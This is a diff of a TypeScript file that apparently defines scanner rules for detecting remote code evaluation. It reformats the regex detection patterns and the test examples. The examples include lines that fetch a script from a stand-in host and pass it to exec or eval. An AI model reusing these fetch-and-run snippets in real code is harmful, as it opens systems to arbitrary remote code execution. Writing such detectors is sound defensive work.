@@ -4,9 +4,12 @@ import type { FileRule, Sight } from '../rule';
 import type { SourceFile } from '../source-file';
 
 const PYTHON_EXEC = /\b(?:exec|eval|compile)\s{0,2}\(/;
-const PYTHON_FETCH = /\b(?:requests|httpx|urllib3?|urllib\.request|\w{1,12})\.(?:get|post|urlopen|request)\s{0,2}\(|\burlopen\s{0,2}\(/;
-const JS_FETCH = /\bfetch\s{0,2}\(|\bhttps?['"]?\)?\.(?:get|request)\s{0,2}\(|\baxios(?:\.get)?\s{0,2}\(|\bgot\s{0,2}\(/;
-const JS_EVAL = /(?<![\w$.])eval\s{0,2}\(|\bnew\s{1,4}Function\s{0,2}\(|\bvm\.runIn\w{1,12}\s{0,2}\(|\.then\s{0,2}\(\s{0,2}eval\b|_compile\s{0,2}\(/;
+const PYTHON_FETCH =
+  /\b(?:requests|httpx|urllib3?|urllib\.request|\w{1,12})\.(?:get|post|urlopen|request)\s{0,2}\(|\burlopen\s{0,2}\(/;
+const JS_FETCH =
+  /\bfetch\s{0,2}\(|\bhttps?['"]?\)?\.(?:get|request)\s{0,2}\(|\baxios(?:\.get)?\s{0,2}\(|\bgot\s{0,2}\(/;
+const JS_EVAL =
+  /(?<![\w$.])eval\s{0,2}\(|\bnew\s{1,4}Function\s{0,2}\(|\bvm\.runIn\w{1,12}\s{0,2}\(|\.then\s{0,2}\(\s{0,2}eval\b|_compile\s{0,2}\(/;
 const JS_REACH = 260;
 
 function weigh(text: string, base: number): number {
@@ -59,7 +62,10 @@ export const REMOTE_EVALUATION_RULES: readonly FileRule[] = [
     examples: {
       fires: [
         { path: 'a.py', text: 'import requests\nexec(requests.get("https://cdn.acme.dev/x").text)', line: 2 },
-        { path: 'a.js', text: "https.get('https://cdn.acme.dev/l.js', (r) => { let s = ''; r.on('data', (d) => (s += d)); r.on('end', () => eval(s)); });" },
+        {
+          path: 'a.js',
+          text: "https.get('https://cdn.acme.dev/l.js', (r) => { let s = ''; r.on('data', (d) => (s += d)); r.on('end', () => eval(s)); });",
+        },
         { path: 'a.js', text: "eval(await (await fetch('https://cdn.acme.dev/l.js')).text());" },
       ],
       passes: [
